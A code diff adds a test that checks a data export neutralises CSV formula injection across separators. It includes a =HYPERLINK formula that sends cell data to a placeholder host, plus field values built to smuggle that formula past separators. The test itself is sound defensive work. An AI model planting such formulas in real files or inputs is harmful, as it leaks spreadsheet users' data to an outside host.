@@ -228,6 +228,28 @@ async def test_only_who_started_it_fetches_the_file_and_others_cannot_tell_it_ex
     assert job.job_id in {one.job_id for one in (await colleague.call(door.jobs.ListJobs, listing)).jobs}
 
 
+@pytest.mark.parametrize("separator", [",", ";", "\t"])
+async def test_no_cell_begins_as_a_formula_however_a_spreadsheet_parts_the_lines(door: Door, separator: str) -> None:
+    operator = await door.operator()
+    formula = """=HYPERLINK("http://x.example"&A1)"""
+    hostile = [f"x{cut}{formula}{cut}y" for cut in (";", ';"', "; ", "\t", "\n", "\r", "\n;", ",", '",')]
+    batch = [registered(f"p{n}", username=text, first_name=text, last_name="a;b", affiliate_id=f"-{text}")
+             for n, text in enumerate([formula, *hostile])]  # fmt: skip
+    request = activity_service_pb2.RecordActivityRequest(operator_id=operator, activities=batch)
+    await door.as_platform(door.activity.RecordActivity, request)
+    async with working(door.database):
+        person = Person(door, operator)
+        job = await person.ended((await person.export(reveal=True, reason="a request of the court")).job_id)
+        content = (await person.file(job.job_id)).decode("utf-8-sig")
+    assert content.count("HYPERLINK") == 3 * len(batch)
+    assert "a;b" in content  # nothing is changed without need
+    # Quotes hold only where they begin a cell; elsewhere those of another separator are letters like any.
+    quoting = csv.QUOTE_MINIMAL if separator == "," else csv.QUOTE_NONE
+    rows = csv.reader(io.StringIO(content, newline=""), delimiter=separator, quoting=quoting)
+    begins = [cell.lstrip('" ') for row in rows for cell in row]
+    assert [cell for cell in begins if cell.startswith(("=", "@", "-", "+"))] == []
+
+
 async def test_who_may_not_see_personal_data_any_more_does_not_fetch_it_in_clear(stage: Person) -> None:
     clear = await stage.ended((await stage.export(reveal=True, reason="a request of the court")).job_id)
     masked = await stage.ended((await stage.export()).job_id)
